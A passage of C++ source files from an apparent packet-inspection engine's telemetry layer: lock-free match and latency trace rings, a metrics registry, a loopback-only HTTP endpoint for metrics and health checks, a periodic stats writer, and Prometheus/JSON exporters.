    s.flow_cold_bytes = flow_cold_bytes.load(std::memory_order_relaxed);
    s.queue_full_spins = queue_full_spins.load(std::memory_order_relaxed);
    s.max_queue_depth = max_queue_depth.load(std::memory_order_relaxed);
    s.shed_packets = shed_packets.load(std::memory_order_relaxed);
    s.shed_bytes = shed_bytes.load(std::memory_order_relaxed);
    s.flows_quarantined = flows_quarantined.load(std::memory_order_relaxed);
    s.prefilter_pass = prefilter_pass.load(std::memory_order_relaxed);
    s.prefilter_skip = prefilter_skip.load(std::memory_order_relaxed);
    s.degraded_hits = degraded_hits.load(std::memory_order_relaxed);
    s.degrade_level = degrade_level.load(std::memory_order_relaxed);
    s.degrade_transitions = degrade_transitions.load(std::memory_order_relaxed);
    s.flows_recovered = flows_recovered.load(std::memory_order_relaxed);
    s.worker_restarts = worker_restarts.load(std::memory_order_relaxed);
    s.worker_stalls = worker_stalls.load(std::memory_order_relaxed);
    s.spans_sampled = spans_sampled.load(std::memory_order_relaxed);
    s.scan_ns = scan_ns.snapshot();
    s.packet_bytes = packet_bytes.snapshot();
    s.bytes_per_flow = bytes_per_flow.snapshot();
    s.queue_depth = queue_depth.snapshot();
    s.queue_wait_ns = queue_wait_ns.snapshot();
    s.span_scan_ns = span_scan_ns.snapshot();
    s.e2e_ns = e2e_ns.snapshot();
    return s;
  }
};

/// Fixed-capacity ring of match events, drainable while workers keep
/// recording. Writers claim a slot by ticket (fetch_add) and publish it
/// with a release store of the slot's sequence number; old events are
/// silently overwritten once the ring wraps. drain() is best-effort under
/// concurrency: a slot caught mid-overwrite is skipped, never torn (every
/// field is an atomic).
class MatchTraceRing {
 public:
  struct Event {
    std::uint32_t src_ip = 0;
    std::uint32_t dst_ip = 0;
    std::uint16_t src_port = 0;
    std::uint16_t dst_port = 0;
    std::uint8_t proto = 0;
    std::uint32_t match_id = 0;
    std::uint64_t offset = 0;  ///< flow byte offset of the match end
    std::uint64_t tsc = 0;     ///< util::rdtsc_now() at the match
  };

  /// Capacity rounds up to a power of two (minimum 2).
  explicit MatchTraceRing(std::size_t capacity);

  void record(std::uint32_t src_ip, std::uint32_t dst_ip, std::uint16_t src_port,
              std::uint16_t dst_port, std::uint8_t proto, std::uint32_t match_id,
              std::uint64_t offset, std::uint64_t tsc);

  /// The newest (up to capacity) published events, oldest first.
  [[nodiscard]] std::vector<Event> drain() const;

  /// Total events ever recorded, including overwritten ones.
  [[nodiscard]] std::uint64_t recorded() const {
    return head_.load(std::memory_order_relaxed);
  }

  [[nodiscard]] std::size_t capacity() const { return mask_ + 1; }

 private:
  struct Slot {
    std::atomic<std::uint64_t> seq{0};  ///< 0 empty, 2t+1 writing, 2t+2 published
    std::atomic<std::uint32_t> src_ip{0};
    std::atomic<std::uint32_t> dst_ip{0};
    std::atomic<std::uint64_t> ports_proto{0};  ///< sp<<32 | dp<<16 | proto
    std::atomic<std::uint32_t> match_id{0};
    std::atomic<std::uint64_t> offset{0};
    std::atomic<std::uint64_t> tsc{0};
  };

  std::unique_ptr<Slot[]> slots_;
  std::size_t mask_ = 0;
  std::atomic<std::uint64_t> head_{0};  ///< next ticket to claim
};

/// Fixed-capacity ring of per-packet latency spans (submit / dequeue /
/// scan-start / scan-end TSC stamps), drainable while workers keep
/// recording. Same slot protocol as MatchTraceRing: ticket-claimed slots,
/// release-published sequence numbers, best-effort drain that skips
/// mid-overwrite slots and never reads a torn record. Spans are sampled
/// 1-in-N on the pipeline hot path (pipeline::Options::trace_sample_shift),
/// so the ring sees a trickle, not the packet rate.
class SpanTraceRing {
 public:
  struct Event {
    std::uint32_t src_ip = 0;
    std::uint32_t dst_ip = 0;
    std::uint16_t src_port = 0;
    std::uint16_t dst_port = 0;
    std::uint8_t proto = 0;
    std::uint32_t shard = 0;          ///< shard slot that scanned the packet
    std::uint64_t submit_tsc = 0;     ///< producer stamp at submit()
    std::uint64_t dequeue_tsc = 0;    ///< worker stamp when the burst popped
    std::uint64_t scan_start_tsc = 0; ///< just before engine delivery
    std::uint64_t scan_end_tsc = 0;   ///< just after engine delivery
  };

  /// Capacity rounds up to a power of two (minimum 2).
  explicit SpanTraceRing(std::size_t capacity);

  void record(std::uint32_t src_ip, std::uint32_t dst_ip, std::uint16_t src_port,
              std::uint16_t dst_port, std::uint8_t proto, std::uint32_t shard,
              std::uint64_t submit_tsc, std::uint64_t dequeue_tsc,
              std::uint64_t scan_start_tsc, std::uint64_t scan_end_tsc);

  /// The newest (up to capacity) published spans, oldest first.
  [[nodiscard]] std::vector<Event> drain() const;

  /// Total spans ever recorded, including overwritten ones.
  [[nodiscard]] std::uint64_t recorded() const {
    return head_.load(std::memory_order_relaxed);
  }

  [[nodiscard]] std::size_t capacity() const { return mask_ + 1; }

 private:
  struct Slot {
    std::atomic<std::uint64_t> seq{0};  ///< 0 empty, 2t+1 writing, 2t+2 published
    std::atomic<std::uint32_t> src_ip{0};
    std::atomic<std::uint32_t> dst_ip{0};
    std::atomic<std::uint64_t> ports_proto{0};  ///< sp<<32 | dp<<16 | proto
    std::atomic<std::uint32_t> shard{0};
    std::atomic<std::uint64_t> submit_tsc{0};
    std::atomic<std::uint64_t> dequeue_tsc{0};
    std::atomic<std::uint64_t> scan_start_tsc{0};
    std::atomic<std::uint64_t> scan_end_tsc{0};
  };

  std::unique_ptr<Slot[]> slots_;
  std::size_t mask_ = 0;
  std::atomic<std::uint64_t> head_{0};  ///< next ticket to claim
};

/// Whole-registry read-side copy: per-shard snapshots, per-match-id hit
/// counts, and the drained trace ring.
struct RegistrySnapshot {
  std::vector<ShardSnapshot> shards;
  std::vector<std::pair<std::uint32_t, std::uint64_t>> match_counts;  ///< nonzero ids
  std::uint64_t match_id_overflow = 0;  ///< hits whose id exceeded the counter table
  std::vector<MatchTraceRing::Event> trace_events;
  std::uint64_t trace_recorded = 0;
  std::vector<SpanTraceRing::Event> span_events;
  std::uint64_t span_recorded = 0;
  // --- ruleset lifecycle (DESIGN.md Sec. 10) ---
  std::uint64_t ruleset_generation = 0;  ///< gauge: newest published generation
  std::uint64_t ruleset_swaps = 0;       ///< completed hot swaps
  HistogramSnapshot ruleset_swap_ns;     ///< swap prepare latency (compile/load)
  /// Matches attributed per engine generation, ascending by generation.
  std::vector<std::pair<std::uint64_t, std::uint64_t>> generation_matches;
  std::uint64_t generation_match_overflow = 0;  ///< hits the slot table couldn't place

  [[nodiscard]] ShardSnapshot totals() const {
    ShardSnapshot t;
    for (const auto& s : shards) t += s;
    return t;
  }
};

/// The telemetry root shared by all engines and the sharded pipeline: N
/// cache-line-aligned ShardMetrics, a per-match-id counter table, and one
/// match-event trace ring. Construct once, hand shard slots to inspectors
/// (FlowInspector::set_metrics / pipeline::Options::metrics), snapshot from
/// anywhere at any time.
class MetricsRegistry {
 public:
  struct Options {
    std::size_t shards = 1;
    std::size_t match_id_capacity = 1024;  ///< ids >= this count as overflow
    std::size_t trace_capacity = 1024;     ///< match-event ring slots
    std::size_t span_capacity = 1024;      ///< latency-span ring slots
  };

  MetricsRegistry() : MetricsRegistry(Options{}) {}
  explicit MetricsRegistry(Options opt);
  explicit MetricsRegistry(std::size_t shards)
      : MetricsRegistry(Options{.shards = shards}) {}

  MetricsRegistry(const MetricsRegistry&) = delete;
  MetricsRegistry& operator=(const MetricsRegistry&) = delete;

  [[nodiscard]] std::size_t shard_count() const { return shard_count_; }
  [[nodiscard]] ShardMetrics& shard(std::size_t i) { return shards_[i]; }
  [[nodiscard]] const ShardMetrics& shard(std::size_t i) const { return shards_[i]; }

  void count_match(std::uint32_t id) {
    if (id < match_id_capacity_)
      match_counts_[id].fetch_add(1, std::memory_order_relaxed);
    else
      match_id_overflow_.fetch_add(1, std::memory_order_relaxed);
  }

  [[nodiscard]] std::uint64_t match_count(std::uint32_t id) const {
    return id < match_id_capacity_
               ? match_counts_[id].load(std::memory_order_relaxed)
               : 0;
  }

  [[nodiscard]] MatchTraceRing& trace() { return trace_; }
  [[nodiscard]] const MatchTraceRing& trace() const { return trace_; }

  [[nodiscard]] SpanTraceRing& spans() { return spans_; }
  [[nodiscard]] const SpanTraceRing& spans() const { return spans_; }

  // --- ruleset lifecycle (DESIGN.md Sec. 10) ---

  /// A hot swap published `generation`; `prepare_ns` is the off-thread
  /// compile/load latency. Bumps the generation gauge and swap counter,
  /// records the latency histogram and a kRulesetSwappedEventId trace event.
  void record_ruleset_swap(std::uint64_t generation, std::uint64_t prepare_ns);

  [[nodiscard]] std::uint64_t ruleset_generation() const {
    return ruleset_generation_.load(std::memory_order_relaxed);
  }
  [[nodiscard]] std::uint64_t ruleset_swaps() const {
    return ruleset_swaps_.load(std::memory_order_relaxed);
  }

  /// Attribute one match to the engine generation that produced it. Lock
  /// free: a small fixed table of CAS-claimed (generation, count) slots —
  /// plenty for the handful of generations alive at once; a hit that cannot
  /// claim a slot (hash collision with a different live generation) counts
  /// as generation_match_overflow instead of being dropped.
  void count_match_generation(std::uint64_t generation) {
    GenerationSlot& slot = generation_slots_[generation % kGenerationSlots];
    std::uint64_t cur = slot.generation.load(std::memory_order_acquire);
    if (cur == kGenerationSlotEmpty &&
        slot.generation.compare_exchange_strong(cur, generation,
                                                std::memory_order_acq_rel))
      cur = generation;  // we claimed it (CAS failure leaves the winner in cur)
    if (cur != generation) {
      generation_match_overflow_.fetch_add(1, std::memory_order_relaxed);
      return;
    }
    slot.count.fetch_add(1, std::memory_order_relaxed);
  }

  [[nodiscard]] std::uint64_t generation_match_count(std::uint64_t generation) const {
    const GenerationSlot& slot = generation_slots_[generation % kGenerationSlots];
    return slot.generation.load(std::memory_order_acquire) == generation
               ? slot.count.load(std::memory_order_relaxed)
               : 0;
  }

  /// Read-side copy of everything, safe while workers keep scanning.
  [[nodiscard]] RegistrySnapshot snapshot() const;

 private:
  static constexpr std::size_t kGenerationSlots = 32;
  static constexpr std::uint64_t kGenerationSlotEmpty = ~std::uint64_t{0};

  struct GenerationSlot {
    std::atomic<std::uint64_t> generation{kGenerationSlotEmpty};
    std::atomic<std::uint64_t> count{0};
  };

  std::size_t shard_count_;
  std::size_t match_id_capacity_;
  std::unique_ptr<ShardMetrics[]> shards_;
  std::unique_ptr<std::atomic<std::uint64_t>[]> match_counts_;
  std::atomic<std::uint64_t> match_id_overflow_{0};
  MatchTraceRing trace_;
  SpanTraceRing spans_;
  std::atomic<std::uint64_t> ruleset_generation_{0};
  std::atomic<std::uint64_t> ruleset_swaps_{0};
  Histogram ruleset_swap_ns_;
  GenerationSlot generation_slots_[kGenerationSlots];
  std::atomic<std::uint64_t> generation_match_overflow_{0};
};

}  // namespace mfa::obs
