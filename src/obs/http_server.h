// Minimal observability HTTP endpoint (DESIGN.md Sec. 12).
//
// A dependency-free, loopback-only HTTP/1.0 server that serves the four
// observability views of a running pipeline:
//
//   GET /metrics         Prometheus text exposition (to_prometheus)
//   GET /telemetry.json  mfa.telemetry.v1 snapshot   (to_json)
//   GET /profile.json    mfa.profile.v1 report       (to_profile_json)
//   GET /healthz         overload verdict: 200 "ok" or 503 + reasons
//
// Deliberately small: one blocking accept loop on its own thread (poll()
// with a short timeout so stop() is prompt), one request per connection,
// bounded request size, GET only. Content is produced by caller-supplied
// handlers so the server knows nothing about registries or profilers —
// ShardedInspector wires them up when Options::http_port is set.
#pragma once

#include <atomic>
#include <cstdint>
#include <functional>
#include <string>
#include <thread>

namespace mfa::obs {

class HttpServer {
 public:
  /// /healthz verdict. `ok` picks 200 vs 503; `body` is served either way
  /// (conventionally a one-line JSON object naming the failing signals).
  struct Health {
    bool ok = true;
    std::string body = "{\"ok\":true}";
  };

  /// Content providers, called on the server thread per request. A null
  /// handler 404s its route. Handlers must be safe to call concurrently
  /// with the pipeline (registry snapshots already are).
  struct Handlers {
    std::function<std::string()> metrics;
    std::function<std::string()> telemetry;
    std::function<std::string()> profile;
    std::function<Health()> health;
  };

  HttpServer() = default;
  ~HttpServer() { stop(); }

  HttpServer(const HttpServer&) = delete;
  HttpServer& operator=(const HttpServer&) = delete;

  /// Bind 127.0.0.1:port (0 = kernel-assigned, see port()) and start the
  /// accept thread. False if the socket could not be bound or the server
  /// is already running.
  bool start(std::uint16_t port, Handlers handlers);

  /// Stop the accept loop and join the thread. Idempotent.
  void stop();

  [[nodiscard]] bool running() const { return fd_ >= 0; }
  /// The bound port (resolves kernel-assigned ports after start(0)).
  [[nodiscard]] std::uint16_t port() const { return port_; }
  /// Requests answered so far (any status), for tests and smoke checks.
  [[nodiscard]] std::uint64_t requests() const {
    return requests_.load(std::memory_order_relaxed);
  }

 private:
  void run();
  void serve(int client);

  Handlers handlers_;
  std::thread thread_;
  std::atomic<bool> stop_{false};
  std::atomic<std::uint64_t> requests_{0};
  int fd_ = -1;
  std::uint16_t port_ = 0;
};

}  // namespace mfa::obs
