// Optional periodic stats thread: appends one telemetry JSON line (the
// mfa.telemetry.v1 schema from obs/export.h) to a file every period, plus a
// final line at stop, so even short runs leave a trajectory behind.
#pragma once

#include <atomic>
#include <chrono>
#include <condition_variable>
#include <mutex>
#include <string>
#include <thread>

#include "obs/metrics.h"

namespace mfa::obs {

class StatsWriter {
 public:
  /// Starts the writer thread immediately. The registry must outlive the
  /// writer. Lines are appended (the file is never truncated).
  StatsWriter(const MetricsRegistry& registry, std::string path,
              std::chrono::milliseconds period = std::chrono::seconds(1));

  ~StatsWriter() { stop(); }

  StatsWriter(const StatsWriter&) = delete;
  StatsWriter& operator=(const StatsWriter&) = delete;

  /// Stop the thread and append one final snapshot line. The final line is
  /// written unconditionally (even if the thread already wrote this period)
  /// and flushed to the OS before stop() returns, so a caller that reads the
  /// file right after stop() always sees the end-of-run snapshot. Idempotent.
  void stop();

  [[nodiscard]] std::uint64_t lines_written() const { return lines_; }

  /// Lines that failed to reach the file (open, write, or flush error).
  /// Failed lines are dropped, never retried: telemetry must not wedge the
  /// data path behind a full disk.
  [[nodiscard]] std::uint64_t write_errors() const { return errors_; }

 private:
  void run();
  void write_line();

  const MetricsRegistry* registry_;
  std::string path_;
  std::chrono::milliseconds period_;
  std::mutex mu_;
  std::condition_variable cv_;
  bool stopping_ = false;
  std::atomic<std::uint64_t> lines_{0};
  std::atomic<std::uint64_t> errors_{0};
  std::thread thread_;
};

}  // namespace mfa::obs
