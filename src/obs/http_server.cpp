#include "obs/http_server.h"

#include <netinet/in.h>
#include <poll.h>
#include <sys/socket.h>
#include <unistd.h>

#include <cerrno>
#include <cstdio>
#include <cstring>

namespace mfa::obs {
namespace {

/// Largest request we are willing to read; observability GETs are tiny,
/// so anything bigger is garbage or abuse and the connection is dropped.
constexpr std::size_t kMaxRequestBytes = 4096;

/// How long the accept loop sleeps in poll() before re-checking stop_.
constexpr int kPollTimeoutMs = 100;

/// How long write_all waits for the peer to drain its socket buffer before
/// giving up on the response (a stuck reader must not wedge the server).
constexpr int kSendTimeoutMs = 5000;

/// Send the whole buffer. send() is allowed to take only part of a large
/// body (socket buffers are far smaller than a /metrics payload), and can
/// fail transiently with EINTR or — if the fd ever goes non-blocking —
/// EAGAIN; none of those mean the peer is gone, so loop: retry EINTR
/// immediately, poll for writability on EAGAIN/EWOULDBLOCK, and bail only
/// on real errors (peer reset) or the poll timeout.
void write_all(int fd, const char* data, std::size_t len) {
  while (len > 0) {
    const ssize_t n = ::send(fd, data, len, MSG_NOSIGNAL);
    if (n > 0) {
      data += n;
      len -= static_cast<std::size_t>(n);
      continue;
    }
    if (n < 0 && errno == EINTR) continue;
    if (n < 0 && (errno == EAGAIN || errno == EWOULDBLOCK)) {
      pollfd p{fd, POLLOUT, 0};
      if (::poll(&p, 1, kSendTimeoutMs) <= 0) return;  // stuck peer
      continue;
    }
    return;  // peer went away; nothing useful to do
  }
}

void respond(int fd, int status, const char* reason, const char* content_type,
             const std::string& body) {
  char header[256];
  const int n = std::snprintf(
      header, sizeof header,
      "HTTP/1.0 %d %s\r\nContent-Type: %s\r\nContent-Length: %zu\r\n"
      "Connection: close\r\n\r\n",
      status, reason, content_type, body.size());
  if (n > 0) write_all(fd, header, static_cast<std::size_t>(n));
  write_all(fd, body.data(), body.size());
}

/// Read until the end of the request head ("\r\n\r\n"), the size bound, or
/// a short poll timeout. Returns the bytes read (possibly a partial head on
/// slow peers — the request line is all we route on anyway).
std::string read_request(int fd) {
  std::string req;
  char buf[1024];
  while (req.size() < kMaxRequestBytes) {
    pollfd p{fd, POLLIN, 0};
    if (::poll(&p, 1, 500) <= 0) break;  // slowloris guard
    const ssize_t n = ::recv(fd, buf, sizeof buf, 0);
    if (n <= 0) break;
    req.append(buf, static_cast<std::size_t>(n));
    if (req.find("\r\n\r\n") != std::string::npos) break;
  }
  return req;
}

}  // namespace

bool HttpServer::start(std::uint16_t port, Handlers handlers) {
  if (fd_ >= 0) return false;
  const int fd = ::socket(AF_INET, SOCK_STREAM, 0);
  if (fd < 0) return false;
  const int one = 1;
  ::setsockopt(fd, SOL_SOCKET, SO_REUSEADDR, &one, sizeof one);
  sockaddr_in addr{};
  addr.sin_family = AF_INET;
  addr.sin_addr.s_addr = htonl(INADDR_LOOPBACK);
  addr.sin_port = htons(port);
  if (::bind(fd, reinterpret_cast<sockaddr*>(&addr), sizeof addr) != 0 ||
      ::listen(fd, 16) != 0) {
    ::close(fd);
    return false;
  }
  socklen_t len = sizeof addr;
  if (::getsockname(fd, reinterpret_cast<sockaddr*>(&addr), &len) == 0)
    port_ = ntohs(addr.sin_port);
  handlers_ = std::move(handlers);
  stop_.store(false, std::memory_order_relaxed);
  fd_ = fd;
  thread_ = std::thread([this] { run(); });
  return true;
}

void HttpServer::stop() {
  if (fd_ < 0) return;
  stop_.store(true, std::memory_order_relaxed);
  if (thread_.joinable()) thread_.join();
  ::close(fd_);
  fd_ = -1;
}

void HttpServer::run() {
  while (!stop_.load(std::memory_order_relaxed)) {
    pollfd p{fd_, POLLIN, 0};
    const int ready = ::poll(&p, 1, kPollTimeoutMs);
    if (ready <= 0) continue;
    const int client = ::accept(fd_, nullptr, nullptr);
    if (client < 0) continue;
    serve(client);
    ::close(client);
  }
}

void HttpServer::serve(int client) {
  const std::string req = read_request(client);
  requests_.fetch_add(1, std::memory_order_relaxed);

  // A request whose headers never terminated within the size bound is
  // rejected outright — serving a truncated request would let a client
  // smuggle arbitrary-length headers past the bound one read at a time.
  if (req.find("\r\n\r\n") == std::string::npos) {
    respond(client, 413, "Payload Too Large", "text/plain",
            "request too large or incomplete\n");
    return;
  }
  // Route on the request line only: METHOD SP PATH SP VERSION.
  const std::size_t method_end = req.find(' ');
  if (method_end == std::string::npos) {
    respond(client, 400, "Bad Request", "text/plain", "bad request\n");
    return;
  }
  const std::string method = req.substr(0, method_end);
  std::size_t path_end = req.find(' ', method_end + 1);
  if (path_end == std::string::npos) path_end = req.find('\r', method_end + 1);
  std::string path = req.substr(method_end + 1, path_end - method_end - 1);
  const std::size_t query = path.find('?');
  if (query != std::string::npos) path.resize(query);

  if (method != "GET") {
    respond(client, 405, "Method Not Allowed", "text/plain",
            "GET only\n");
    return;
  }
  if (path == "/metrics" && handlers_.metrics) {
    respond(client, 200, "OK", "text/plain; version=0.0.4",
            handlers_.metrics());
  } else if (path == "/telemetry.json" && handlers_.telemetry) {
    respond(client, 200, "OK", "application/json", handlers_.telemetry());
  } else if (path == "/profile.json" && handlers_.profile) {
    respond(client, 200, "OK", "application/json", handlers_.profile());
  } else if (path == "/healthz" && handlers_.health) {
    const Health h = handlers_.health();
    respond(client, h.ok ? 200 : 503, h.ok ? "OK" : "Service Unavailable",
            "application/json", h.body);
  } else {
    respond(client, 404, "Not Found", "text/plain",
            "try /metrics /telemetry.json /profile.json /healthz\n");
  }
}

}  // namespace mfa::obs
