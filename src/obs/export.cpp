#include "obs/export.h"

#include <cinttypes>
#include <cstdarg>
#include <cstdio>
#include <thread>

namespace mfa::obs {
namespace {

void append(std::string& out, const char* fmt, ...)
    __attribute__((format(printf, 2, 3)));

void append(std::string& out, const char* fmt, ...) {
  char buf[512];
  va_list args;
  va_start(args, fmt);
  const int n = std::vsnprintf(buf, sizeof buf, fmt, args);
  va_end(args);
  if (n < 0) return;
  if (static_cast<std::size_t>(n) < sizeof buf) {
    out.append(buf, static_cast<std::size_t>(n));
    return;
  }
  // Rare slow path: the formatted row outgrew the stack buffer (long rule
  // names, wide format strings). Redo at exact size — truncating instead
  // would corrupt the surrounding JSON/Prometheus document.
  std::string big(static_cast<std::size_t>(n) + 1, '\0');
  va_start(args, fmt);
  std::vsnprintf(big.data(), big.size(), fmt, args);
  va_end(args);
  big.resize(static_cast<std::size_t>(n));
  out += big;
}

// --- Prometheus ---

void prom_counter(std::string& out, const char* name, const char* help,
                  const RegistrySnapshot& snap,
                  std::uint64_t ShardSnapshot::*field, const char* type) {
  if (!prom_metric_name_valid(name)) return;
  append(out, "# HELP %s %s\n# TYPE %s %s\n", name, help, name, type);
  for (std::size_t i = 0; i < snap.shards.size(); ++i)
    append(out, "%s{shard=\"%zu\"} %" PRIu64 "\n", name, i, snap.shards[i].*field);
}

void prom_histogram(std::string& out, const char* name, const char* help,
                    const RegistrySnapshot& snap,
                    HistogramSnapshot ShardSnapshot::*field) {
  if (!prom_metric_name_valid(name)) return;
  append(out, "# HELP %s %s\n# TYPE %s histogram\n", name, help, name);
  for (std::size_t i = 0; i < snap.shards.size(); ++i) {
    const HistogramSnapshot& h = snap.shards[i].*field;
    std::uint64_t cumulative = 0;
    const std::size_t hi = h.max_bucket();
    for (std::size_t b = 0; b <= hi && b + 1 < kHistogramBuckets; ++b) {
      cumulative += h.counts[b];
      append(out, "%s_bucket{shard=\"%zu\",le=\"%" PRIu64 "\"} %" PRIu64 "\n", name,
             i, Histogram::bucket_upper_bound(b), cumulative);
    }
    append(out, "%s_bucket{shard=\"%zu\",le=\"+Inf\"} %" PRIu64 "\n", name, i,
           h.count);
    append(out, "%s_sum{shard=\"%zu\"} %" PRIu64 "\n", name, i, h.sum);
    append(out, "%s_count{shard=\"%zu\"} %" PRIu64 "\n", name, i, h.count);
  }
}

// --- JSON ---

void json_histogram(std::string& out, const char* key, const HistogramSnapshot& h) {
  append(out, "\"%s\":{\"count\":%" PRIu64 ",\"sum\":%" PRIu64 ",\"buckets\":[",
         key, h.count, h.sum);
  bool first = true;
  for (std::size_t b = 0; b < kHistogramBuckets; ++b) {
    if (h.counts[b] == 0) continue;
    append(out, "%s[%" PRIu64 ",%" PRIu64 "]", first ? "" : ",",
           Histogram::bucket_upper_bound(b), h.counts[b]);
    first = false;
  }
  out += "]}";
}

void json_shard(std::string& out, const ShardSnapshot& s) {
  append(out,
         "{\"packets\":%" PRIu64 ",\"bytes\":%" PRIu64 ",\"matches\":%" PRIu64
         ",\"flows\":%" PRIu64 ",\"evictions\":%" PRIu64
         ",\"reassembly_drops\":%" PRIu64 ",\"reassembly_pending_bytes\":%" PRIu64
         ",\"queue_full_spins\":%" PRIu64 ",\"max_queue_depth\":%" PRIu64
         ",\"shed_packets\":%" PRIu64 ",\"shed_bytes\":%" PRIu64
         ",\"flows_quarantined\":%" PRIu64 ",\"worker_restarts\":%" PRIu64
         ",\"worker_stalls\":%" PRIu64 ",\"flow_hot_slots\":%" PRIu64
         ",\"flow_cold_bytes\":%" PRIu64 ",\"prefilter_pass\":%" PRIu64
         ",\"prefilter_skip\":%" PRIu64 ",\"degraded_hits\":%" PRIu64
         ",\"degrade_level\":%" PRIu64 ",\"degrade_transitions\":%" PRIu64
         ",\"flows_recovered\":%" PRIu64 ",",
         s.packets, s.bytes, s.matches, s.flows, s.evictions, s.reassembly_drops,
         s.reassembly_pending_bytes, s.queue_full_spins, s.max_queue_depth,
         s.shed_packets, s.shed_bytes, s.flows_quarantined, s.worker_restarts,
         s.worker_stalls, s.flow_hot_slots, s.flow_cold_bytes, s.prefilter_pass,
         s.prefilter_skip, s.degraded_hits, s.degrade_level,
         s.degrade_transitions, s.flows_recovered);
  append(out, "\"spans_sampled\":%" PRIu64 ",", s.spans_sampled);
  json_histogram(out, "scan_ns", s.scan_ns);
  out += ",";
  json_histogram(out, "packet_bytes", s.packet_bytes);
  out += ",";
  json_histogram(out, "bytes_per_flow", s.bytes_per_flow);
  out += ",";
  json_histogram(out, "queue_depth", s.queue_depth);
  out += ",";
  json_histogram(out, "queue_wait_ns", s.queue_wait_ns);
  out += ",";
  json_histogram(out, "span_scan_ns", s.span_scan_ns);
  out += ",";
  json_histogram(out, "e2e_ns", s.e2e_ns);
  out += "}";
}

std::string snapshot_json(const RegistrySnapshot& snap) {
  std::string out = "{\"schema\":\"mfa.telemetry.v1\",\"shards\":[";
  for (std::size_t i = 0; i < snap.shards.size(); ++i) {
    if (i != 0) out += ",";
    json_shard(out, snap.shards[i]);
  }
  out += "],\"totals\":";
  json_shard(out, snap.totals());
  out += ",\"match_counts\":[";
  for (std::size_t i = 0; i < snap.match_counts.size(); ++i)
    append(out, "%s[%" PRIu32 ",%" PRIu64 "]", i != 0 ? "," : "",
           snap.match_counts[i].first, snap.match_counts[i].second);
  append(out, "],\"match_id_overflow\":%" PRIu64
              ",\"trace\":{\"recorded\":%" PRIu64 ",\"events\":[",
         snap.match_id_overflow, snap.trace_recorded);
  for (std::size_t i = 0; i < snap.trace_events.size(); ++i) {
    const auto& e = snap.trace_events[i];
    append(out,
           "%s{\"src_ip\":%" PRIu32 ",\"dst_ip\":%" PRIu32
           ",\"src_port\":%u,\"dst_port\":%u,\"proto\":%u,\"id\":%" PRIu32
           ",\"offset\":%" PRIu64 ",\"tsc\":%" PRIu64 "}",
           i != 0 ? "," : "", e.src_ip, e.dst_ip, e.src_port, e.dst_port, e.proto,
           e.match_id, e.offset, e.tsc);
  }
  append(out, "]},\"spans\":{\"recorded\":%" PRIu64 ",\"events\":[",
         snap.span_recorded);
  for (std::size_t i = 0; i < snap.span_events.size(); ++i) {
    const auto& e = snap.span_events[i];
    append(out,
           "%s{\"src_ip\":%" PRIu32 ",\"dst_ip\":%" PRIu32
           ",\"src_port\":%u,\"dst_port\":%u,\"proto\":%u,\"shard\":%" PRIu32
           ",\"submit_tsc\":%" PRIu64 ",\"dequeue_tsc\":%" PRIu64
           ",\"scan_start_tsc\":%" PRIu64 ",\"scan_end_tsc\":%" PRIu64 "}",
           i != 0 ? "," : "", e.src_ip, e.dst_ip, e.src_port, e.dst_port, e.proto,
           e.shard, e.submit_tsc, e.dequeue_tsc, e.scan_start_tsc, e.scan_end_tsc);
  }
  out += "]},\"ruleset\":{";
  append(out, "\"generation\":%" PRIu64 ",\"swaps\":%" PRIu64 ",",
         snap.ruleset_generation, snap.ruleset_swaps);
  json_histogram(out, "swap_ns", snap.ruleset_swap_ns);
  out += ",\"generation_matches\":[";
  for (std::size_t i = 0; i < snap.generation_matches.size(); ++i)
    append(out, "%s[%" PRIu64 ",%" PRIu64 "]", i != 0 ? "," : "",
           snap.generation_matches[i].first, snap.generation_matches[i].second);
  append(out, "],\"generation_match_overflow\":%" PRIu64 "}",
         snap.generation_match_overflow);
  out += "}";
  return out;
}

}  // namespace

std::string prom_escape_label(std::string_view value) {
  std::string out;
  out.reserve(value.size());
  for (const char c : value) {
    switch (c) {
      case '\\': out += "\\\\"; break;
      case '"': out += "\\\""; break;
      case '\n': out += "\\n"; break;
      default: out += c; break;
    }
  }
  return out;
}

bool prom_metric_name_valid(std::string_view name) {
  if (name.empty()) return false;
  const auto ok = [](char c, bool first) {
    return (c >= 'a' && c <= 'z') || (c >= 'A' && c <= 'Z') || c == '_' ||
           c == ':' || (!first && c >= '0' && c <= '9');
  };
  if (!ok(name[0], true)) return false;
  for (std::size_t i = 1; i < name.size(); ++i)
    if (!ok(name[i], false)) return false;
  return true;
}

std::string json_escape(std::string_view value) {
  std::string out;
  out.reserve(value.size());
  for (const char c : value) {
    switch (c) {
      case '\\': out += "\\\\"; break;
      case '"': out += "\\\""; break;
      case '\n': out += "\\n"; break;
      case '\r': out += "\\r"; break;
      case '\t': out += "\\t"; break;
      default:
        if (static_cast<unsigned char>(c) < 0x20)
          append(out, "\\u%04x", static_cast<unsigned>(c) & 0xff);
        else
          out += c;
        break;
    }
  }
  return out;
}

std::string to_prometheus(const RegistrySnapshot& snap,
                          const std::vector<std::string>* rule_names) {
  std::string out;
  prom_counter(out, "mfa_packets_total", "Packets scanned", snap,
               &ShardSnapshot::packets, "counter");
  prom_counter(out, "mfa_bytes_total", "Payload bytes scanned", snap,
               &ShardSnapshot::bytes, "counter");
  prom_counter(out, "mfa_matches_total", "Confirmed pattern matches", snap,
               &ShardSnapshot::matches, "counter");
  prom_counter(out, "mfa_flows", "Flows resident in the flow table", snap,
               &ShardSnapshot::flows, "gauge");
  prom_counter(out, "mfa_flow_evictions_total", "Flow-table LRU evictions", snap,
               &ShardSnapshot::evictions, "counter");
  prom_counter(out, "mfa_reassembly_drops_total",
               "Out-of-order segments dropped by the pending cap", snap,
               &ShardSnapshot::reassembly_drops, "counter");
  prom_counter(out, "mfa_reassembly_pending_bytes",
               "Buffered out-of-order bytes awaiting gaps", snap,
               &ShardSnapshot::reassembly_pending_bytes, "gauge");
  prom_counter(out, "mfa_flow_hot_slots",
               "Hot-tier flow-table slot capacity (tiered inspector)", snap,
               &ShardSnapshot::flow_hot_slots, "gauge");
  prom_counter(out, "mfa_flow_cold_bytes",
               "Cold-tier slab bytes for reordering/big-state flows", snap,
               &ShardSnapshot::flow_cold_bytes, "gauge");
  prom_counter(out, "mfa_queue_full_spins_total",
               "Producer spins while a shard queue was full", snap,
               &ShardSnapshot::queue_full_spins, "counter");
  prom_counter(out, "mfa_queue_max_depth", "High-water mark of the shard queue",
               snap, &ShardSnapshot::max_queue_depth, "gauge");
  prom_counter(out, "mfa_shed_packets_total",
               "Packets shed (load shedding, quarantine, crash, failover) "
               "instead of scanned", snap, &ShardSnapshot::shed_packets, "counter");
